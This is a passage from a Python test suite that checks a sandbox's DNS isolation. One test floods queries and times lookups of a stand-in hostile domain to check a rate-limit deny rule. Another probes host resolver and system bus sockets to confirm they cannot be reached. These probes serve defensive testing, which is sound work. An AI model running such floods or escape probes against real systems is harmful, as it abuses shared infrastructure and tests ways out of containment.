        "            code = sock.recv(4096)[3] & 15\n"
        "            codes[code] = codes.get(code, 0) + 1\n"
        "say(codes.get(0, 0) + codes.get(3, 0), codes.get(5, 0)); time.sleep(1)"
    )
    tight.lab.forget()
    mark = len(tight.stand.records())
    said: list[str] = []
    sender = threading.Thread(target=lambda: said.append(tight.a.run(flood, 30)))
    sender.start()
    watched = (
        "worst = 0\n"
        "for n in range(150):\n"
        "    began = time.monotonic(); dns('b.evil-lab.com'); worst = max(worst, time.monotonic() - began)\n"
        "say(worst)"
    )
    worst = float(tight.b.run(watched, 20))
    sender.join()
    answered, refused_ones = map(int, said[0].split())
    assert answered + refused_ones == 3000
    assert answered < 1500
    assert worst < 0.5
    assert tight.new_records(mark, [("dns", "deny", "dns_budget")])
    tight.nothing_reached()
    tight.life_goes_on()


@pytest.fixture
def nscd(explaining: Arena) -> Iterator[Path]:
    """A socket of the machine like those of nscd and systemd-resolved, outside of what the sandbox is given."""
    path = explaining.stand.directory / "nscd.socket"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as listener:
        listener.bind(str(path))
        path.chmod(0o777)
        listener.listen()
        yield path


def test_no_resolver_of_the_machine_is_in_sight(explaining: Arena, nscd: Path) -> None:
    """DNS-27."""
    code = (
        f"for path in ({str(nscd)!r}, '/run/nscd/socket', '/var/run/nscd/socket', '/run/dbus/system_bus_socket',\n"
        "             '/run/systemd/resolve/io.systemd.Resolve', '\\0/org/freedesktop/resolve1'):\n"
        "    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:\n"
        "        try:\n"
        "            sock.connect(path); say('connected')\n"
        "        except OSError as error:\n"
        "            say(type(error).__name__)"
    )
    assert explaining.open.run(code).startswith("connected\n")
    found = explaining.a.run(code).split()
    assert len(found) == 6
    assert set(found) <= {"FileNotFoundError", "ConnectionRefusedError", "PermissionError"}, found
    explaining.life_goes_on()
